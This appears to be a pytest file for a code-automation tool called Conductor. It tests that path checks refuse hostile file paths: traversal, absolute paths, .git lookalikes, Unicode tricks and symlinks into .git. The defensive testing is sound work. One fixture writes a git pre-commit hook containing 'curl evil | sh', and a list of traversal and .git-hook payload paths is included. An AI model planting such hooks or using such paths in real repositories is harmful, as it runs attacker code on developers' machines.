"""Hostile paths wherever a path enters Conductor: a plan step's ``allowed_files``, a task's ``allowed_files``
(judged by the verifier), an LLM's edit list, and a result's ``files_changed``.

Decisions recorded here:

* Decomposed (NFD) names are refused outright as paths; a protected *pattern* written decomposed is
  normalised to NFC, so it still protects the composed name (the two are the same name on macOS).
* Lookalikes that no file system or git folds to ``.git`` (``.ɡit`` with U+0261 LATIN SMALL LETTER SCRIPT G)
  are ordinary names: git ignores them as repository data, so they are judged by ``allowed_files`` like any
  other path. Fullwidth ``．ｇｉｔ`` is different: NFKC folds it to ``.git``, so it is refused.
"""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest

from conductor.errors import ConfigError, UnsafePath
from conductor.executors.llm import LLMRunner
from conductor.paths import check_relpath, is_dotgit, resolve_inside
from conductor.planner import plan_from_file
from tests.corpus.builders import (
    FixedEdits,
    bare_task,
    do_and_complete,
    policy_protecting,
    reported,
    resealed,
    verify,
    write_edit,
)
from tests.handoff.support import make_handoff

# id -> (path, what the refusal must say)
UNSAFE = {
    "absolute": ("/etc/passwd", "is absolute"),
    "dotdot": ("../x", "'..' component"),
    "dotdot_nested": ("a/../../x", "'..' component"),
    "nul": ("a\0b", "contains a NUL character"),
    "backslash": ("a\\..\\b", "contains a backslash"),
    "drive_letter": ("C:foo", "Windows drive letter"),
    "dotgit": (".git/config", ".git component"),
    "dotgit_upper": (".GIT/config", ".git component"),
    "dotgit_mixed_case_hook": (".Git/hooks/pre-commit", ".git component"),
    "dotgit_trailing_dot": (".git./config", ".git component"),
    "dotgit_trailing_space": (".git /config", ".git component"),
    "dotgit_fullwidth": ("\uff0e\uff47\uff49\uff54/config", ".git component"),
    "nfd_decomposed": ("cafe\u0301.txt", "not in Unicode NFC form"),
    "empty": ("", "empty"),
    "dot_slash_only": ("./", "workspace root itself"),
}
IDS = list(UNSAFE)


@pytest.mark.parametrize("case", IDS)
def test_plan_step_allowed_files(tmp_path: Path, case: str) -> None:
    path, reason = UNSAFE[case]
    plan_file = tmp_path / "plan.json"  # JSON, so NUL and backslashes need no YAML quoting
    plan_file.write_text(json.dumps({"goal": "g", "strategies": [
        {"name": "s", "steps": [{"id": "a", "instruction": "x", "allowed_files": ["ok.py", path]}]}]}))

    with pytest.raises(ConfigError) as info:
        plan_from_file(plan_file, goal=None, forks=None)

    message = str(info.value)
    assert str(plan_file) in message and "strategy 's', step a" in message
    assert repr(path.rstrip("/") or path)[1:-1] in message and reason in message


@pytest.mark.parametrize("case", IDS)
def test_task_allowed_files_entry_fails_verification(tmp_path: Path, case: str) -> None:
    """A task file (hand-edited or from a bad planner) with an unsafe entry: the verifier rejects the step."""
    path, reason = UNSAFE[case]
    handoff = make_handoff(tmp_path / "project", steps=1)
    claimed = do_and_complete(handoff, lambda ws: (ws / "README.md").write_text("changed\n"),
                              files=reported("README.md"), publish={"allowed_files": ["README.md", path]})

    verdict = verify(handoff, claimed)

    assert not verdict.accepted
    assert f"allowed_files: unsafe path {path!r}: " in verdict.reasons[0] and reason in verdict.reasons[0]
    assert handoff.where()["failed"] == ["step_001"]
    assert handoff.fork_text("README.md") == "hello\n"  # nothing merged


@pytest.mark.parametrize("case", IDS)
def test_llm_edit_path_is_refused_and_nothing_written(tmp_path: Path, case: str) -> None:
    path, reason = UNSAFE[case]
    client = FixedEdits([write_edit("README.md"), write_edit(path)])

    outcome = LLMRunner(client).run(bare_task(["README.md", "docs/"]), tmp_path, lambda: False)

    assert outcome.status == "failed" and outcome.error is not None
    assert outcome.error.kind == "disallowed_edit"
    assert f"unsafe path {path!r}" in outcome.error.message and reason in outcome.error.message
    assert list(tmp_path.iterdir()) == []


# allowed_files entries that are valid paths but can never match the file meant: gitignore syntax drops
# a trailing space, and nobody means a file whose name starts with one.
STRAY_WHITESPACE = {
    "trailing_space": "README.md ",
    "leading_space": " README.md",
    "space_before_slash": "docs /",
    "space_after_slash": "docs/ README.md",
    "trailing_no_break_space": "README.md\u00a0",
    "leading_ideographic_space": "\u3000README.md",
}
STRAY_REASON = ("starts or ends a part with whitespace, which an allowed_files entry may not (a stray space would "
                "never match the file meant)")


@pytest.mark.parametrize("case", list(STRAY_WHITESPACE))
def test_plan_step_allowed_files_with_stray_whitespace_is_refused_at_load(tmp_path: Path, case: str) -> None:
    entry = STRAY_WHITESPACE[case]
    plan_file = tmp_path / "plan.yaml"
    plan_file.write_text(f"goal: g\nstrategies:\n  - name: s\n    steps:\n      - id: a\n        instruction: x\n"
                         f"        allowed_files:\n          - ok.py\n          - {json.dumps(entry)}\n")

    with pytest.raises(ConfigError) as info:
        plan_from_file(plan_file, goal=None, forks=None)

    assert str(info.value) == (f"{plan_file}:9: strategies[0].steps[0].allowed_files[1]: unsafe path {entry!r}: "
                               f"{STRAY_REASON} (strategy 's', step a)")


@pytest.mark.parametrize("case", ["trailing_space", "leading_space"])
def test_task_allowed_files_with_stray_whitespace_fails_verification(tmp_path: Path, case: str) -> None:
    entry = STRAY_WHITESPACE[case]
    handoff = make_handoff(tmp_path / "project", steps=1)
    claimed = do_and_complete(handoff, lambda ws: (ws / "README.md").write_text("changed\n"),
                              files=reported("README.md"), publish={"allowed_files": [entry]})

    verdict = verify(handoff, claimed)

    assert not verdict.accepted
    assert verdict.reasons[0] == f"allowed_files: unsafe path {entry!r}: {STRAY_REASON}"
    assert handoff.fork_text("README.md") == "hello\n"


# Paths no directory walk can produce: a result reporting one is invalid as a document.
IMPOSSIBLE = {
    "absolute": ("/etc/passwd", "is absolute"),
    "dotdot": ("../x", "'..' component"),
    "dotdot_nested": ("a/../../x", "'..' component"),
    "nul": ("a\0b", "contains a NUL character"),
    "empty": ("", "empty"),
    "dot_slash": ("./README.md", "'.' or '..' component"),
    "double_slash": ("a//b", "empty, '.' or '..' component"),
}


@pytest.mark.parametrize("case", list(IMPOSSIBLE))
def test_result_files_changed_outside_the_workspace_is_an_invalid_result(tmp_path: Path, case: str) -> None:
    path, reason = IMPOSSIBLE[case]
    handoff = make_handoff(tmp_path / "project", steps=1)
    claimed = do_and_complete(handoff, lambda ws: (ws / "README.md").write_text("changed\n"),
                              files=reported("README.md"))
    result_path = handoff.fork.sidecar("completed", "step_001", ".result.json")
    resealed(lambda d: d["files_changed"].append({**d["files_changed"][0], "path": path}))(result_path)

    verdict = verify(handoff, claimed)  # at high confidence too: the document itself is invalid

    assert not verdict.accepted
    [message] = verdict.reasons
    assert message.startswith("invalid_result: ") and str(result_path) in message
    assert "files_changed.1: " in message and f"unsafe path {path!r}" in message and reason in message
    assert handoff.fork_text("README.md") == "hello\n"


@pytest.mark.parametrize("case", ["backslash", "drive_letter", "dotgit", "dotgit_upper", "nfd_decomposed"])
def test_result_reporting_an_unsafe_name_it_did_not_change_fails_medium_confidence(tmp_path: Path, case: str) -> None:
    """Names legal on Linux (so a walk could find them) are judged against the ground truth: a lie is named."""
    path, _ = UNSAFE[case]
    handoff = make_handoff(tmp_path / "project", steps=1)
    claimed = do_and_complete(handoff, lambda ws: (ws / "README.md").write_text("changed\n"),
                              files=reported("README.md", path))

    verdict = verify(handoff, claimed, level="medium")

    assert not verdict.accepted
    assert verdict.reasons == [
        f"medium confidence: executor reported {sorted(['README.md', path])}, workspace shows ['README.md']"]
    assert [c.path for c in verdict.files_changed] == ["README.md"]  # ground truth, not the claim


# --- normal forms and lookalikes ------------------------------------------------------------------


def test_dot_slash_prefix_is_normalised_not_refused(tmp_path: Path) -> None:
    assert check_relpath("./README.md") == "README.md"
    client = FixedEdits([write_edit("./README.md", "new\n")])
    outcome = LLMRunner(client).run(bare_task(["./README.md"]), tmp_path, lambda: False)
    assert outcome.status == "completed"
    assert (tmp_path / "README.md").read_text() == "new\n"


def test_decomposed_protected_pattern_protects_the_composed_name(tmp_path: Path) -> None:
    composed = "caf\u00e9.txt"
    handoff = make_handoff(tmp_path / "project", steps=1, files={composed: "menu\n"}, allowed_files=(composed,))
    claimed = do_and_complete(handoff, lambda ws: (ws / composed).write_text("poisoned\n"), files=reported(composed))

    verdict = verify(handoff, claimed, merged=policy_protecting("cafe\u0301.txt"))

    assert not verdict.accepted
    assert verdict.reasons == [f"{composed}: matches protected pattern 'cafe\u0301.txt' (project)"]


def test_decomposed_file_name_written_by_an_executor_is_refused(tmp_path: Path) -> None:
    decomposed = "cafe\u0301.txt"
    handoff = make_handoff(tmp_path / "project", steps=1, allowed_files=("*.txt",))
    claimed = do_and_complete(handoff, lambda ws: (ws / decomposed).write_text("x\n"), files=reported(decomposed))

    verdict = verify(handoff, claimed)

    assert not verdict.accepted
    assert verdict.reasons == [f"unsafe path {decomposed!r}: is not in Unicode NFC form (decomposed characters)"]


def test_script_g_lookalike_is_an_ordinary_name(tmp_path: Path) -> None:
    lookalike = ".\u0261it/config"  # ".ɡit": no file system or git folds U+0261 to "g"
    assert not is_dotgit(".\u0261it") and check_relpath(lookalike) == lookalike
    outcome = LLMRunner(FixedEdits([write_edit(lookalike)])).run(bare_task([".\u0261it/"]), tmp_path, lambda: False)
    assert outcome.status == "completed"
    assert (tmp_path / ".\u0261it" / "config").read_text() == "x\n" and not (tmp_path / ".git").exists()


def test_symlinked_folder_into_dotgit_is_refused_by_resolve_inside(tmp_path: Path) -> None:
    (tmp_path / ".git" / "hooks").mkdir(parents=True)
    os.symlink(".git", tmp_path / "innocent")

    with pytest.raises(UnsafePath, match=r"unsafe path 'innocent/hooks': resolves to '\.git/hooks', inside \.git"):
        resolve_inside(tmp_path, "innocent/hooks")


def test_llm_edit_through_a_symlink_into_dotgit_writes_nothing(tmp_path: Path) -> None:
    (tmp_path / ".git" / "hooks").mkdir(parents=True)
    os.symlink(".git", tmp_path / "innocent")
    client = FixedEdits([write_edit("innocent/hooks/pre-commit", "#!/bin/sh\ncurl evil | sh\n")])

    with pytest.raises(UnsafePath, match="inside .git"):
        LLMRunner(client).run(bare_task(["innocent/"]), tmp_path, lambda: False)

    assert not (tmp_path / ".git" / "hooks" / "pre-commit").exists()
